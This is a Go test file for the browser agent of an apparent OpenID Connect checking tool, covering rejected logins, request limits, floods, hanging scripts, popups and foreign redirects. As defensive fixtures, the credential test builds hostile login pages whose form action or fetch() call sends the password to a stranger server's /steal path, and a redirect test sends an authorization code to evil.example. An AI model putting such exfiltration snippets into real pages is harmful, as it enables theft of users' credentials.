package browser_test

import (
	"context"
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/oidcheck/oidcheck/driver/agent"
	"github.com/oidcheck/oidcheck/driver/browser"
	"github.com/oidcheck/oidcheck/driver/httpx"
)

// fails runs a visit that must fail. Its error must not show the password.
func fails(t *testing.T, ctx context.Context, a agent.Agent, v agent.Visit) error {
	t.Helper()
	got, err := a.Visit(ctx, v)
	if err == nil {
		t.Fatalf("no error; arrival %+v", got)
	}
	if strings.Contains(err.Error(), alice.Password.Reveal()) {
		t.Errorf("error shows the password: %v", err)
	}
	return err
}

func TestLoginRejected(t *testing.T) {
	b := start(t, browser.Options{})
	for name, routes := range map[string]handlers{
		"form":        {"/auth": show(plainLogin), "/login": show(plainLogin)},
		"application": {"/auth": show(application), "/api/login": answer(401, "{}")},
	} {
		t.Run(name, func(t *testing.T) {
			s := serve(t, routes)
			if err := fails(t, within(t), newAgent(t, b), visit(s)); !errors.Is(err, agent.ErrLoginRejected) {
				t.Error(err)
			}
			if n := strings.Count(s.requests(), "POST"); n != 1 {
				t.Errorf("%d logins:\n%s", n, s.requests())
			}
		})
	}
}

func TestLimits(t *testing.T) {
	b := start(t, browser.Options{Timeout: 5 * time.Second})
	for name, routes := range map[string]handlers{
		"redirects": {"/auth": redirect(302, "/auth")},
		"consents":  {"/auth": show(`<form method=post action=/auth><button>Allow</button></form>`)},
		"requests":  {"/auth": show(`<script>for (let i = 0; i < 3000; i++) fetch('/x' + i)</script>`)},
	} {
		t.Run(name, func(t *testing.T) {
			var limit *agent.LimitError
			if err := fails(t, within(t), newAgent(t, b), visit(serve(t, routes))); !errors.As(err, &limit) {
				t.Error(err)
			}
		})
	}
}

// TestFloodHoldsUpNobody: a page that asks without end, also after its visit was
// given up, keeps no other agent of the browser waiting.
func TestFloodHoldsUpNobody(t *testing.T) {
	b := start(t, browser.Options{Timeout: 5 * time.Second})
	flood := serve(t, handlers{"/auth": show(`<script>setInterval(() => { for (let i = 0; i < 100; i++) fetch('/x' + Math.random()) }, 0)</script>`)})
	if got, err := newAgent(t, b).Visit(within(t), visit(flood)); err == nil && got.URL != nil {
		t.Errorf("it arrived at %s", got.URL)
	}
	calm := serve(t, handlers{"/auth": show(plainLogin), "/login": redirect(302, callback)})
	if _, err := newAgent(t, b).Visit(within(t), visit(calm)); err != nil {
		t.Errorf("another agent: %v", err)
	}
}

func TestCredentialsStayWithTheProvider(t *testing.T) {
	b := start(t, browser.Options{})
	stranger := serve(t, handlers{})
	form := `<form method=post action="` + stranger.URL + `/steal"><input name=user><input type=password name=pw><button>Login</button></form>`
	for name, html := range map[string]string{
		"action": form,
		"script": strings.Replace(form, "<button", `<button onclick="event.preventDefault(); fetch('`+stranger.URL+`/steal', {method: 'POST', mode: 'no-cors', body: document.querySelectorAll('input')[1].value})"`, 1) +
			`<script>document.forms[0].action = '/login'</script>`,
	} {
		t.Run(name, func(t *testing.T) {
			var foreign *agent.ForeignError
			if err := fails(t, within(t), newAgent(t, b), visit(serve(t, handlers{"/auth": show(html)}))); !errors.As(err, &foreign) {
				t.Error(err)
			}
		})
	}
	if stranger.requests() != "" {
		t.Errorf("the stranger got %s", stranger.requests())
	}
}

func TestForeignRedirectIsNotFollowed(t *testing.T) {
	b := start(t, browser.Options{})
	for _, to := range []string{"https://evil.example/x?code=1", "other.app:/cb?code=1"} {
		got, err := newAgent(t, b).Visit(within(t), visit(serve(t, handlers{"/auth": redirect(302, to)})))
		if err != nil || !got.Foreign || got.URL == nil || got.URL.String() != to || got.Status != 302 {
			t.Errorf("%s: arrival %+v, error %v", to, got, err)
		}
	}
}

func TestUnreachable(t *testing.T) {
	s := serve(t, handlers{})
	s.Close()
	err := fails(t, within(t), newAgent(t, start(t, browser.Options{})), visit(s))
	var unreachable *httpx.UnreachableError
	if !errors.As(err, &unreachable) || !strings.Contains(err.Error(), "is it running") {
		t.Error(err)
	}
}

// A page whose script never ends, and one whose answer never comes, end with
// the context; the agent keeps its cookies and works again.
func TestVisitEndsWithItsContext(t *testing.T) {
	for name, hang := range map[string]http.HandlerFunc{
		"script":      show(`<script>while (true) {}</script>`),
		"late script": show(plainLogin + `<script>document.forms[0].onsubmit = () => { while (true) {} }</script>`),
		"answer":      func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() },
	} {
		t.Run(name, func(t *testing.T) {
			s := serve(t, handlers{"/auth": hang, "/set": func(w http.ResponseWriter, r *http.Request) {
				http.SetCookie(w, &http.Cookie{Name: "sid", Value: "1"})
				redirect(302, callback)(w, r)
			}, "/check": func(w http.ResponseWriter, r *http.Request) {
				if _, err := r.Cookie("sid"); err != nil {
					t.Error("the cookie is gone")
				}
				redirect(302, callback)(w, r)
			}})
			a := newAgent(t, start(t, browser.Options{}))
			v := visit(s)
			v.URL = s.URL + "/set"
			if _, err := a.Visit(within(t), v); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), time.Second)
			defer cancel()
			begun := time.Now()
			if err := fails(t, ctx, a, visit(s)); !errors.Is(err, context.DeadlineExceeded) {
				t.Error(err)
			}
			if took := time.Since(begun); took > 3*time.Second {
				t.Errorf("ended after %v", took)
			}
			v.URL = s.URL + "/check"
			if got, err := a.Visit(within(t), v); err != nil || got.URL == nil {
				t.Errorf("the agent does not recover: %+v, %v", got, err)
			}
		})
	}
}

func TestPopupsAndDownloads(t *testing.T) {
	s := serve(t, handlers{
		"/auth": show(`<form method=post action=/consent><button onclick="window.open('/popup')">Allow</button></form>`),
		"/consent": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Disposition", "attachment; filename=x.bin")
			w.Write([]byte("evil"))
		},
	})
	got, err := newAgent(t, start(t, browser.Options{})).Visit(within(t), visit(s))
	if err != nil || got.URL != nil || kinds(got) != "consent consent" {
		t.Errorf("arrival %+v, error %v", got, err)
	}
	if n := strings.Count(s.requests(), "POST"); n != 1 {
		t.Errorf("%d submissions", n)
	}
}
